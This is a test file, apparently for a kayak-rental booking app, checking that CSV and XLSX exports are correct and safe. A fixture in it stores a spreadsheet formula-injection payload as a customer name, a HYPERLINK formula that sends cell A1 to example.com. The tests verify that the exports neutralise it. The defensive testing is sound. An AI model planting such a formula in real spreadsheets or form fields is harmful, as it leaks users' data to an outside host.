import { readXlsx } from 'hucre/xlsx';
import { beforeAll, expect, test } from 'vitest';
import type { Booking } from '#features/bookings/bookings.contract.ts';
import { sql } from '#platform/database/sql.ts';
import { makeBooking } from '../support/bookings.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';
import type { TestClient } from '../support/test-client.ts';
import { unzip } from '../support/unzip.ts';

let site: TestApp;
let staff: TestClient;
let hostile: Booking;

beforeAll(async () => {
  site = await createTestApp();
  staff = await site.staffClient();
  hostile = await makeBooking(staff, {
    fullName: '=HYPERLINK("https://example.com?"&A1,"Żółć; click")',
    email: 'hostile@example.org',
    phoneNumber: '+39 333 100 0001',
  });
});

const linesOf = (text: string) => text.slice(1).trimEnd().split('\r\n');

test('a single booking is exported, in UTF-8, without anything that a spreadsheet would run', async () => {
  const { status, headers, text } = await staff.get(`/api/bookings/${hostile.id}/export`);
  expect(status).toBe(200);
  expect(headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': `attachment; filename="booking-WATER-${hostile.id}.csv"`,
    'cache-control': 'no-store',
  });
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head, row, ...others] = linesOf(text);
  expect(head).toBe(
    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Voucher or code (EUR),Total (EUR),Language,Created,Paid (EUR),Refunded (EUR),Kept (EUR)',
  );
  expect(row).toContain(
    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 100 0001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),0.00,14.00,EN,`,
  );
  expect(others).toEqual([]);
});

test('an export is in the language of the request', async () => {
  const { text } = await staff.get(`/api/bookings/${hostile.id}/export`, { 'accept-language': 'it' });
  expect(linesOf(text)[0]).toMatch(/^Prenotazione,Stato,Nome e cognome,/);
  expect(text).toContain('Kayak singolo');
});

test('an export says when a booking was made, in the time of the business, whatever happened to it since', async () => {
  const { id } = await makeBooking(staff);
  await site.database.run(sql`
    update bookings set created_at = '2027-06-13T22:05:59Z', updated_at = '2027-06-14T07:00:00Z' where id = ${id}`);
  const { text } = await staff.get(`/api/bookings/${id}/export`);
  const [head = '', row = ''] = linesOf(text);
  expect(row.split(',').at(head.split(',').indexOf('Created'))).toBe('2027-06-14 00:05');
});

test('a booking that does not exist is not exported', async () => {
  const { status, body } = await staff.get('/api/bookings/999999/export');
  expect([status, body.code]).toEqual([404, 'bookings/not-found']);
});

test('the filtered list is exported whole and in its order, however many pages that takes', async () => {
  const busy = await createTestApp();
  const client = await busy.staffClient();
  const { id } = await makeBooking(client, { fullName: 'Template' });
  // Cancelled, so that they hold nothing.
  await client.patch(`/api/bookings/${id}/cancel`);
  await busy.database.run(sql`
    with made as (
      insert into bookings (request_hash, state, cancel_reason, language, full_name, email, date_of_birth, phone_number,
        booking_date, start_slot, total_cents)
      select request_hash, state, cancel_reason, language, 'Copy ' || n, email, date_of_birth, phone_number,
        booking_date + n % 7, n % 18, total_cents
      from bookings, generate_series(1, 2500) n where id = ${id} returning id
    ), lines as (
      insert into booking_lines select made.id, item_id, quantity, duration, unit_price_cents
      from made, booking_lines where booking_id = ${id}
    )
    insert into booking_documents (booking_id, document_type, document_id, sha256, language)
    select made.id, document_type, document_id, sha256, language from made, booking_documents where booking_id = ${id}`);

  const { headers, text } = await client.get('/api/bookings/export?q=copy&sort=date-asc');
  expect(headers['content-disposition']).toMatch(/^attachment; filename="bookings-\d{4}-\d\d-\d\d\.csv"$/);
  const [head = '', ...rows] = linesOf(text);
  expect(rows).toHaveLength(2500);
  expect(new Set(rows).size).toBe(2500);
  const days = rows.map((row) => row.split(',')[head.split(',').indexOf('Booking Date')]);
  expect(days).toEqual(days.toSorted());
  expect(linesOf((await client.get('/api/bookings/export?q=template')).text)).toHaveLength(2);
  expect(linesOf((await client.get('/api/bookings/export?status=paid')).text)).toHaveLength(1);

  const workbook = await readXlsx((await client.get('/api/bookings/export?q=copy&format=xlsx')).bytes);
  expect(workbook.sheets[0]?.rows).toHaveLength(2501);

  const { body } = await client.get('/api/bookings/count');
  expect(body).toEqual({ count: 2501, isMore: false, isAny: true });
});

test.each(['?status=expired', '?cursor=5', '?limit=5', '?sort=email', '?q=%00'])(
  'an export of %s is refused',
  async (query) => {
    const { status, body } = await staff.get(`/api/bookings/export${query}`);
    expect([status, body.code]).toEqual([422, 'http/invalid']);
  },
);

test('selecting none or too many is refused', async () => {
  const select = (bookingIds: number[]) => staff.post('/api/bookings/delete-selected', { bookingIds });
  const none = await select([]);
  expect(none.status).toBe(422);
  expect(none.body.issues).toEqual([
    { path: 'bookingIds', message: 'Please select at least one booking to delete' },
  ]);
  const many = await select(Array.from({ length: 501 }, (_, n) => n + 1));
  expect(many.status).toBe(422);
  expect(many.body.issues).toEqual([
    { path: 'bookingIds', message: 'Please select at most 500 bookings at a time' },
  ]);
});

const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

async function openWorkbook(query = '') {
  const answer = await staff.get(`/api/bookings/export?format=xlsx&q=hostile@example.org${query}`);
  expect(answer.status).toBe(200);
  expect(answer.headers['content-type']).toBe(sheetType);
  expect(answer.headers['content-disposition']).toMatch(/filename="bookings-\d{4}-\d\d-\d\d\.xlsx"$/);
  const { sheets } = await readXlsx(answer.bytes);
  const [head = [], ...rows] = sheets[0]?.rows ?? [];
  const row = rows[0] ?? [];
  return { bytes: answer.bytes, rows, cell: (name: string) => row[head.indexOf(name)], head };
}

test('a workbook has numbers as numbers, dates as dates, and texts that are never run', async () => {
  await staff.patch(`/api/bookings/${hostile.id}/payment`, { paymentCompleted: true });
  const { bytes, rows, cell, head } = await openWorkbook();
  expect(rows).toHaveLength(1);
  expect(cell('Full name')).toBe('=HYPERLINK("https://example.com?"&A1,"Żółć; click")');
  expect(cell('Phone number')).toBe('+39 333 100 0001');
  expect(cell('Booking Date')).toEqual(new Date('2027-06-20T00:00:00Z'));
  expect(cell('Date of birth')).toEqual(new Date('1990-05-20T00:00:00Z'));
  expect(cell('Created')).toBeInstanceOf(Date);
  expect([cell('Single kayak'), cell('Tandem kayak')]).toEqual([1, 0]);
  expect(head.slice(-7)).toEqual([
    'Voucher or code (EUR)',
    'Total (EUR)',
    'Language',
    'Created',
    'Paid (EUR)',
    'Refunded (EUR)',
    'Kept (EUR)',
  ]);
  expect([cell('Total (EUR)'), cell('Paid (EUR)'), cell('Refunded (EUR)'), cell('Kept (EUR)')]).toEqual([
    14, 14, 0, 14,
  ]);

  // Without the library: the parts of the archive, and no formula in them.
  const parts = unzip(bytes);
  expect([...parts.keys()]).toEqual(expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml']));
  const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
  expect(sheet).toContain('<t>+39 333 100 0001</t>');
  expect(sheet).toContain('<v>14</v>');
  expect(sheet).not.toContain('<f');
});

test('CSV for Excel has semicolons, decimal commas, a column per item and a phone without an apostrophe', async () => {
  const { text, headers } = await staff.get('/api/bookings/export?format=csv-excel&q=hostile@example.org');
  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head = '', row = ''] = linesOf(text);
  expect(head).toMatch(/^Booking;Status;Full name;.*;Single kayak;.*Total \(EUR\);/);
  expect(row).toContain(`;"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")";`);
  expect(row).toContain(';(+39) 333 100 0001;1990-05-20;2027-06-20;');
  expect(row).toContain(';"14,00";EN;');
  const decimals = row.match(/"\d+,\d\d"/g);
  expect(decimals).toHaveLength(5);
});
